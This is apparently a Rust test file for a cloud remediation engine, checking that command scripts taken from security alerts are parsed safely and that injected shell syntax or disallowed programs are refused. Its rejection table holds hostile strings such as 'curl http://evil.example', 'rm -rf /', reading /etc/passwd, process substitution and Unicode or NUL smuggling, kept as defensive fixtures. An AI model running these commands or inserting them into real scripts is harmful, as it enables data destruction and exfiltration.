//! Hostile CLI scripts are rejected whole, and nothing reaches the (stand-in)
//! cloud CLI; safe scripts with metacharacters inside quotes arrive intact.

mod support;

use proptest::prelude::*;
use remediation::executor::{CommandExecutor, ContextMap, ProcessExecutor};
use remediation::model::{Cloud, Target};
use remediation::plan::Step;
use remediation::plan::{Command, CommandPolicy, OperationClass, parse_script, parse_script_steps};
use remediation::{Error, Refusal};
use support::StandIn;

const ACCOUNT: &str = "123456789012";

fn target() -> Target {
    Target::new(Cloud::Aws, Some(ACCOUNT.to_owned())).with_region("us-east-1")
}

fn executor(standin: &StandIn) -> ProcessExecutor {
    standin.executor(ContextMap::new().with_aws_profile(ACCOUNT, "default"))
}

/// What the engine does with a script: parse, check every step, then run them in order.
/// Parses `script` both ways — commands only ([`parse_script`]) and as the
/// planners do, with file writes understood ([`parse_script_steps`]) — then
/// checks and runs the steps the way the engine does.
async fn run_like_engine(script: &str, standin: &StandIn) -> remediation::Result<usize> {
    let policy = CommandPolicy::default();
    let as_steps = parse_script_steps(script, &policy);
    let steps: Vec<Step> = match parse_script(script, &policy) {
        Ok(commands) => commands.into_iter().map(Step::new).collect(),
        Err(e) => {
            // Whatever the strict parser refuses, the planners' parser
            // refuses too, for the same kind of reason.
            let Err(Error::UnsafeCommand { code, reason }) = &as_steps else {
                panic!("{script:?}: parse_script_steps accepted it: {as_steps:?}");
            };
            if let Error::UnsafeCommand {
                code: strict_code,
                reason: strict,
            } = &e
            {
                assert_eq!(code, strict_code, "{script:?}: {reason} vs {strict}");
                let kind = strict.split(" outside quotes").next().unwrap_or(strict);
                assert!(reason.contains(kind), "{script:?}: {reason} vs {strict}");
            }
            return Err(e);
        }
    };
    let executor = executor(standin);
    for step in &steps {
        executor.check(step, &target())?;
    }
    for step in &steps {
        executor.execute(step, &target()).await?;
    }
    Ok(steps.len())
}

/// (script, the refusal class, a fragment the rejection reason must contain)
///
/// Where a hostile part follows a command, that command is a catalog
/// operation (`aws s3api list-buckets`), so the hostile part is the only
/// reason to refuse the script.
const HOSTILE: &[(&str, Refusal, &str)] = &[
    (
        "aws s3api list-buckets; sh -c 'id'",
        Refusal::ProgramNotAllowed,
        "`sh` is not allowed",
    ),
    (
        "aws s3api list-buckets && curl http://evil.example",
        Refusal::ProgramNotAllowed,
        "`curl` is not allowed",
    ),
    (
        "aws s3api list-buckets || rm -rf /",
        Refusal::ShellSyntax,
        "`||`",
    ),
    (
        "aws s3api list-buckets | sh",
        Refusal::ShellSyntax,
        "pipe `|`",
    ),
    (
        "aws s3api list-buckets |& tee /tmp/x",
        Refusal::ShellSyntax,
        "pipe `|&`",
    ),
    (
        "aws s3api list-buckets $(id)",
        Refusal::ShellSyntax,
        "command substitution `$(`",
    ),
    (
        "aws s3api list-buckets ${HOME}",
        Refusal::ShellSyntax,
        "parameter expansion `${`",
    ),
    (
        "aws s3api list-buckets $HOME",
        Refusal::ShellSyntax,
        "variable expansion `$`",
    ),
    (
        "aws s3api list-buckets \"$HOME\"",
        Refusal::ShellSyntax,
        "`$` inside double quotes",
    ),
    (
        "aws s3api list-buckets $'\\x3b'",
        Refusal::ShellSyntax,
        "ANSI-C quoting",
    ),
    (
        "aws s3api list-buckets `id`",
        Refusal::ShellSyntax,
        "backticks",
    ),
    (
        "aws s3api list-buckets \"`id`\"",
        Refusal::ShellSyntax,
        "backtick inside double quotes",
    ),
    (
        "aws s3api list-buckets > /tmp/x",
        Refusal::ShellSyntax,
        "redirection `>`",
    ),
    (
        "aws s3api list-buckets >> /tmp/x",
        Refusal::ShellSyntax,
        "redirection `>>`",
    ),
    (
        "aws s3 cp - s3://b/k < /etc/passwd",
        Refusal::ShellSyntax,
        "redirection `<`",
    ),
    (
        "aws s3api list-buckets 2>&1",
        Refusal::ShellSyntax,
        "redirection `2>&`",
    ),
    (
        "aws s3api list-buckets 2> /tmp/err",
        Refusal::ShellSyntax,
        "redirection `2>`",
    ),
    (
        "aws s3api list-buckets &> /tmp/x",
        Refusal::ShellSyntax,
        "redirection `&>`",
    ),
    (
        "aws s3api list-buckets & rm -rf /",
        Refusal::ShellSyntax,
        "background `&`",
    ),
    (
        "aws s3api list-buckets <<EOF\nrm -rf /\nEOF",
        Refusal::ShellSyntax,
        "heredoc `<<`",
    ),
    (
        "aws s3api list-buckets <(curl evil.example)",
        Refusal::ShellSyntax,
        "process substitution `<(`",
    ),
    (
        "AWS_PROFILE=prod aws s3api list-buckets",
        Refusal::ShellSyntax,
        "assignment `AWS_PROFILE`",
    ),
    (
        "/bin/aws s3api list-buckets",
        Refusal::ProgramNotAllowed,
        "program given as a path",
    ),
    (
        "./aws s3api list-buckets",
        Refusal::ProgramNotAllowed,
        "program given as a path",
    ),
    (
        "aws s3api list-buckets; \\/bin/sh",
        Refusal::ProgramNotAllowed,
        "program given as a path",
    ),
    (
        "sh -c 'aws s3api list-buckets'",
        Refusal::ProgramNotAllowed,
        "`sh` is not allowed",
    ),
    ("bash", Refusal::ProgramNotAllowed, "`bash` is not allowed"),
    (
        "python3 -c 'import os'",
        Refusal::ProgramNotAllowed,
        "`python3` is not allowed",
    ),
    (
        "aws s3api list-buckets; e\\cho hi",
        Refusal::ProgramNotAllowed,
        "`echo` is not allowed",
    ),
    (
        "AWS s3api list-buckets",
        Refusal::ProgramNotAllowed,
        "`AWS` is not allowed",
    ),
    (
        "aws s3api list-buckets --profile prod",
        Refusal::DeniedOption,
        "--profile",
    ),
    (
        "aws s3api list-buckets --profile=prod",
        Refusal::DeniedOption,
        "--profile",
    ),
    (
        "aws --prof prod s3api list-buckets",
        Refusal::DeniedOption,
        "--profile",
    ),
    (
        "aws --endpoint-url http://evil.example s3api list-buckets",
        Refusal::DeniedOption,
        "--endpoint-url",
    ),
    (
        "aws s3api list-buckets --endpoint-url=http://evil.example",
        Refusal::DeniedOption,
        "--endpoint-url",
    ),
    (
        "aws s3api list-buckets --no-verify-ssl",
        Refusal::DeniedOption,
        "--no-verify-ssl",
    ),
    (
        "aws configure set aws_access_key_id AKIA",
        Refusal::OperationNotAllowed,
        "`aws configure`",
    ),
    (
        "gcloud --impersonate-service-account=x@p.iam compute instances list",
        Refusal::DeniedOption,
        "--impersonate-service-account",
    ),
    (
        "aws s3api list-buckets\nrm -rf /",
        Refusal::ProgramNotAllowed,
        "`rm` is not allowed",
    ),
    (
        "aws s3api list-buckets\rrm -rf /",
        Refusal::ShellSyntax,
        "carriage return",
    ),
    (
        "aws s3api list-buckets\u{FF1B} rm -rf /",
        Refusal::ShellSyntax,
        "U+FF1B",
    ),
    (
        "\u{FF41}ws s3api list-buckets",
        Refusal::ShellSyntax,
        "U+FF41",
    ),
    (
        "aws s3api list-buckets; '\u{FF41}ws' s3api list-buckets",
        Refusal::ProgramNotAllowed,
        "is not allowed",
    ),
    (
        "a\u{200B}ws s3api list-buckets",
        Refusal::ShellSyntax,
        "U+200B",
    ),
    (
        "aws\u{00A0}s3api list-buckets",
        Refusal::ShellSyntax,
        "U+00A0",
    ),
    (
        "aws s3api list-buckets \u{202E}sl",
        Refusal::ShellSyntax,
        "U+202E",
    ),
    (
        "aws s3 cp 'a\u{202E}b' s3://x",
        Refusal::ShellSyntax,
        "bidirectional",
    ),
    (
        "aws s3api list-buckets\0; rm -rf /",
        Refusal::ShellSyntax,
        "NUL",
    ),
    (
        "aws s3api list-buckets '\u{1B}[2J'",
        Refusal::ShellSyntax,
        "control character U+001B",
    ),
    (
        "aws iam get-user --user-name u and sh -c id",
        Refusal::ShellSyntax,
        "bare `and` followed by `sh`",
    ),
    (
        "aws iam get-user --user-name u and rm -rf /",
        Refusal::ShellSyntax,
        "bare `and` followed by `rm`",
    ),
    (
        "(aws s3api list-buckets)",
        Refusal::ShellSyntax,
        "subshell or grouping `(`",
    ),
    (
        "{ aws s3api list-buckets; }",
        Refusal::ShellSyntax,
        "brace group",
    ),
    (
        "aws s3api list-buckets 'unbalanced",
        Refusal::ShellSyntax,
        "unterminated single quote",
    ),
    (
        "aws s3api list-buckets \"unbalanced",
        Refusal::ShellSyntax,
        "unterminated double quote",
    ),
    (
        "aws s3api list-buckets # ; rm -rf /",
        Refusal::ShellSyntax,
        "comment",
    ),
    (
        "aws s3api list-buckets &&",
        Refusal::ShellSyntax,
        "ends with `&&`",
    ),
    (
        "aws s3api list-buckets\\",
        Refusal::ShellSyntax,
        "trailing backslash",
    ),
];

#[tokio::test]
async fn hostile_scripts_are_rejected_and_nothing_runs() {
    assert!(HOSTILE.len() >= 30);
    let standin = StandIn::new();
    for (script, code, fragment) in HOSTILE {
        match parse_script(script, &CommandPolicy::default()) {
            Err(Error::UnsafeCommand { code: got, reason }) => {
                assert_eq!(got, *code, "{script:?}: refused as {got} ({reason})");
                assert!(
                    reason.contains(fragment),
                    "{script:?}: reason {reason:?} does not mention {fragment:?}"
                );
            }
            other => panic!("{script:?} was not rejected: {other:?}"),
        }
        let ran = run_like_engine(script, &standin).await;
        assert_eq!(
            ran.as_ref().err().and_then(Error::refusal),
            Some(*code),
            "{script:?} ran or was refused otherwise: {ran:?}"
        );
        assert_eq!(standin.calls(), vec![], "{script:?} reached the CLI");
    }
}

#[tokio::test]
async fn the_harness_does_record_what_runs() {
    // Guards the test above: an empty log must mean "nothing ran", not "nothing records".
    let standin = StandIn::new();
    assert_eq!(
        run_like_engine(
            "aws s3api list-buckets; aws iam get-user --user-name u",
            &standin
        )
        .await
        .unwrap(),
        2
    );
    let argvs: Vec<_> = standin.calls().into_iter().map(|c| c.argv).collect();
    assert_eq!(
        argvs,
        vec![
            vec!["aws", "s3api", "list-buckets"],
            vec!["aws", "iam", "get-user", "--user-name", "u"]
        ]
    );
}

#[tokio::test]
async fn policy_document_with_metacharacters_arrives_as_one_argument() {
    let document = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*","Condition":{"StringEquals":{"aws:x":"a;b|c&&d>e$f`g`"}}}]}"#;
    let script = format!("aws iam create-policy --policy-name X --policy-document '{document}'");
    let commands = parse_script(&script, &CommandPolicy::default()).unwrap();
    let expected = vec![
        "aws",
        "iam",
        "create-policy",
        "--policy-name",
        "X",
        "--policy-document",
        document,
    ];
    assert_eq!(commands.len(), 1);
    assert_eq!(commands[0].argv(), expected.as_slice());
    assert_eq!(commands[0].args()[5], document);

    let standin = StandIn::new();
    run_like_engine(&script, &standin).await.unwrap();
    let calls = standin.calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].argv, expected);
}

#[test]
fn prisma_api_form_yields_two_commands() {
    // The shape of Prisma Cloud's IAM remediation API: a deny policy, then its attachment.
    let script = "aws iam create-policy --policy-name X --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Deny\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"}]}' and aws iam attach-user-policy --user-name U --policy-arn arn:aws:iam::123456789012:policy/X";
    let commands = parse_script(script, &CommandPolicy::default()).unwrap();
    assert_eq!(commands.len(), 2);
    assert_eq!(
        commands[0].args()[..4],
        ["iam", "create-policy", "--policy-name", "X"]
    );
    assert!(commands[0].args()[5].starts_with("{\"Version\""));
    assert_eq!(
        commands[1],
        Command::new(
            "aws",
            [
                "iam",
                "attach-user-policy",
                "--user-name",
                "U",
                "--policy-arn",
                "arn:aws:iam::123456789012:policy/X"
            ]
        )
    );
}

#[test]
fn separators_yield_the_right_commands() {
    let aws =
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled";
    let az = "az storage account update --name acct --https-only true";
    let gcloud = "gcloud compute firewall-rules update fw --disabled --quiet";
    let expected: Vec<Command> = [aws, az, gcloud]
        .iter()
        .map(|c| {
            let words: Vec<&str> = c.split(' ').collect();
            Command::new(words[0], words[1..].iter().copied())
        })
        .collect();
    for script in [
        format!("{aws}; {az}; {gcloud}"),
        format!("{aws} && {az} && {gcloud}"),
        format!("{aws}\n{az}\n\n{gcloud}\n"),
        format!(
            "# remediation\naws s3api put-bucket-versioning \\\n  --bucket b --versioning-configuration \
             Status=Enabled &&\n{az} and {gcloud}"
        ),
    ] {
        assert_eq!(
            parse_script(&script, &CommandPolicy::default()).unwrap(),
            expected,
            "{script:?}"
        );
    }
}

// ---- property tests ----

/// Characters an argument may hold: safe ones, shell metacharacters (which
/// quoting must neutralize) and some non-ASCII text (allowed inside quotes).
const ARG_CHARS: &[char] = &[
    'a', 'b', 'z', 'A', 'Z', '0', '9', '-', '_', '.', '/', ':', '@', '+', ',', '=', '%', ' ', ';',
    '|', '&', '<', '>', '$', '`', '(', ')', '{', '}', '#', '*', '?', '[', ']', '~', '!', '^', '\'',
    '"', '\\', '\n', '\t', 'é', '；', '\u{200B}',
];

/// The CLIs of the default policy.
const PROGRAMS: &[&str] = &["aws", "az", "gcloud", "gsutil"];

/// The default policy with every operation of every CLI allowed (`"*"`, the
/// catalog's explicit allow-everything key). The properties below are the
/// script parser's: they hold for any words, not only for the operations of
/// the catalog, which refuses nearly every random command.
fn any_operation() -> CommandPolicy {
    PROGRAMS
        .iter()
        .fold(CommandPolicy::default(), |policy, program| {
            policy.allow_operation(*program, "*", OperationClass::Remediating)
        })
}

/// Whether the policy takes `word` as a plain value, whatever the operation.
///
/// The argument checks refuse, for every operation, a word that (after
/// leading whitespace) starts like a local path (`/`, `~`, `./`, `../`, `.`,
/// `..`, `\`), an option (`-`: options are the policy's business, and `--`
/// passes the words after it through unchecked) or an az file reference (`@`,
/// also right after a `=`), and a word holding a `file://` reference, a URL
/// or an ssh `ProxyCommand`. Those refusals are tested beside the policy and
/// with the hostile corpus; here a word only has to survive quoting, so words
/// the policy would refuse for what they mean are not generated.
fn plain_value(word: &str) -> bool {
    let t = word.trim_start();
    let lower = t.to_ascii_lowercase();
    let after_equals = t.split_once('=').map(|(_, rest)| rest.trim_start());
    let path = t.starts_with(['/', '~', '\\'])
        || t.starts_with("./")
        || t.starts_with("../")
        || t == "."
        || t == "..";
    let option = t.starts_with('-');
    let az_file = t.starts_with('@') || after_equals.is_some_and(|r| r.starts_with('@'));
    let fetched = [
        "file://",
        "fileb://",
        "http://",
        "https://",
        "ftp://",
        "proxycommand",
    ]
    .iter()
    .any(|s| lower.contains(s));
    !(path || option || az_file || fetched)
}

fn arg() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(ARG_CHARS), 0..12)
        .prop_map(|chars| chars.into_iter().collect::<String>())
        // A bare `and` is a statement separator by design.
        .prop_filter("not a separator word", |a| a != "and")
        .prop_filter("a plain value (see plain_value)", |a| plain_value(a))
}

/// A command of one of the CLIs with plain-value arguments. Not filtered
/// through the policy: every such command must pass [`any_operation`], so a
/// refusal fails the property instead of quietly narrowing what is generated.
fn command() -> impl Strategy<Value = Vec<String>> {
    (
        prop::sample::select(PROGRAMS),
        prop::collection::vec(arg(), 0..6),
    )
        .prop_map(|(program, args)| {
            let mut argv = vec![program.to_owned()];
            argv.extend(args);
            argv
        })
}

fn quote(word: &str) -> String {
    shlex::try_quote(word).expect("no NUL").into_owned()
}

const FORBIDDEN: &[&str] = &[
    "|", "||", "&", ">", ">>", "<", "<<", "2>", "&>", "$(id)", "${X}", "$X", "$", "`id`", "(", ")",
    "{", "}", "\r", "\u{FF1B}", "\u{00A0}", "\0",
];

proptest! {
    // Many cases in the normal suite: each property runs in a few seconds in debug.
    #![proptest_config(ProptestConfig::with_cases(1024))]

    #[test]
    fn safe_scripts_round_trip(
        commands in prop::collection::vec(command(), 1..4),
        separators in prop::collection::vec(prop::sample::select(vec!["; ", " && ", "\n", " and ", " ;\n"]), 3),
    ) {
        let mut script = String::new();
        for (i, argv) in commands.iter().enumerate() {
            if i > 0 {
                script.push_str(separators[i - 1]);
            }
            script.push_str(&shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL"));
        }
        let parsed = parse_script(&script, &any_operation())
            .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
        let argvs: Vec<Vec<String>> = parsed.iter().map(|c| c.to_argv()).collect();
        prop_assert_eq!(argvs, commands, "script {:?}", script);
    }

    #[test]
    fn unquoted_metacharacters_are_rejected(
        argv in command(),
        position in any::<prop::sample::Index>(),
        glued in any::<bool>(),
        token in prop::sample::select(FORBIDDEN),
    ) {
        let mut words: Vec<String> = argv.iter().map(|w| quote(w)).collect();
        let at = 1 + position.index(words.len());
        if glued {
            // Right after the previous word, outside its quotes.
            words[at - 1].push_str(token);
        } else {
            words.insert(at, token.to_owned());
        }
        let script = words.join(" ");
        // Every operation allowed: the metacharacter is the only thing wrong.
        let policy = any_operation();
        let result = parse_script(&script, &policy);
        prop_assert_eq!(
            result.as_ref().err().and_then(Error::refusal),
            Some(Refusal::ShellSyntax),
            "{:?} was accepted or refused otherwise: {:?}", script, result
        );
        // Understanding file writes does not let a command redirect anything.
        let result = parse_script_steps(&script, &policy);
        prop_assert_eq!(
            result.as_ref().err().and_then(Error::refusal),
            Some(Refusal::ShellSyntax),
            "{:?} was accepted or refused otherwise as steps: {:?}", script, result
        );
    }

    #[test]
    fn any_text_is_parsed_or_refused_without_panicking(script in "\\PC{0,80}|[a-z <>'\"$&;|\n]{0,80}") {
        for prefix in ["", "cat > p.json <<'EOF'\n", "echo "] {
            let text = format!("{prefix}{script}");
            let _ = parse_script_steps(&text, &CommandPolicy::default());
            let _ = parse_script(&text, &CommandPolicy::default());
        }
    }

    #[test]
    fn heredoc_and_echo_contents_arrive_intact(
        lines in prop::collection::vec(prop::collection::vec(prop::sample::select(ARG_CHARS), 0..20), 0..5),
        text in prop::collection::vec(prop::sample::select(ARG_CHARS), 1..20),
    ) {
        let lines: Vec<String> = lines
            .into_iter()
            .map(|l| l.into_iter().filter(|c| *c != '\n').collect())
            .filter(|l: &String| l != "EOF")
            .collect();
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        let text: String = text.into_iter().filter(|c| *c != '\\').collect();
        prop_assume!(!text.is_empty() && !text.starts_with('-'));
        // Neither command is in the catalog (`any_operation` allows them, with
        // no positive spec): the body is any text, carried as it is.
        let script = format!(
            "cat > deny.json <<'EOF'\n{body}EOF\necho {} > note.txt\n\
             gcloud example apply --policy-file=deny.json \
             && aws s3 cp note.txt s3://b/k",
            quote(&text)
        );
        let steps = parse_script_steps(&script, &any_operation())
            .map_err(|e| TestCaseError::fail(format!("{script:?}: {e}")))?;
        prop_assert_eq!(steps.len(), 2);
        prop_assert_eq!(steps[0].files[0].contents(), body.as_str());
        let echoed = format!("{text}\n");
        prop_assert_eq!(steps[1].files[0].contents(), echoed.as_str());
    }

    #[test]
    fn programs_outside_the_allowlist_are_rejected(
        program in "[a-zA-Z0-9_./-]{1,12}",
        args in prop::collection::vec(arg(), 0..4),
        first in any::<bool>(),
    ) {
        prop_assume!(!PROGRAMS.contains(&program.as_str()));
        let mut argv = vec![program];
        argv.extend(args);
        let hostile = shlex::try_join(argv.iter().map(String::as_str)).expect("no NUL");
        // After a catalog operation, so the program is the only thing wrong.
        let script = if first { hostile } else { format!("aws s3api list-buckets; {hostile}") };
        let result = parse_script(&script, &CommandPolicy::default());
        prop_assert_eq!(
            result.as_ref().err().and_then(Error::refusal),
            Some(Refusal::ProgramNotAllowed),
            "{:?} was accepted or refused otherwise: {:?}", script, result
        );
    }
}

/// The worker's `--max-commands`: a script longer than the limit is rejected
/// whole (none of its commands runs), a shorter one runs.
#[tokio::test]
async fn the_worker_refuses_a_script_with_too_many_commands() {
    let bin = support::examples::example_binary("remediate").await;
    let standin = StandIn::new();
    let dir = tempfile::tempdir().unwrap();
    let alert = |id: &str, commands: usize| {
        let script: Vec<String> = (0..commands)
            .map(|i| format!("aws iam get-user --user-name {id}-{i}"))
            .collect();
        serde_json::json!({
            "alertId": id,
            "alertStatus": "open",
            "accountId": ACCOUNT,
            "cloudType": "aws",
            "resourceRegionId": "us-east-1",
            "alertRemediationCli": script.join(" && "),
        })
        .to_string()
    };
    let file = dir.path().join("alerts.jsonl");
    std::fs::write(
        &file,
        format!("{}\n{}\n", alert("LONG", 3), alert("SHORT", 2)),
    )
    .unwrap();
    let audit = dir.path().join("audit.jsonl");
    let out = tokio::process::Command::new(&bin)
        .args(["--source", &format!("file:{}", file.display())])
        .args(["--execute", "--quiet", "--max-commands", "2"])
        .args(["--account-profile", &format!("{ACCOUNT}=default")])
        .arg("--audit")
        .arg(&audit)
        .env("PATH", standin.path_env())
        .env(support::LOG_VAR, standin.log_path())
        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let records: Vec<serde_json::Value> = std::fs::read_to_string(&audit)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 2, "{records:?}");
    let long = records.iter().find(|r| r["alert_id"] == "LONG").unwrap();
    assert_eq!(long["decision"], "rejected", "{long}");
    let reason = long["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("unsafe_command") && reason.contains("more than 2 commands"),
        "{reason}"
    );
    let short = records.iter().find(|r| r["alert_id"] == "SHORT").unwrap();
    assert_eq!(short["decision"], "executed", "{short}");
    let users: Vec<String> = standin
        .calls()
        .into_iter()
        .map(|c| c.argv.last().unwrap().clone())
        .collect();
    assert_eq!(users, ["SHORT-0", "SHORT-1"]);
}
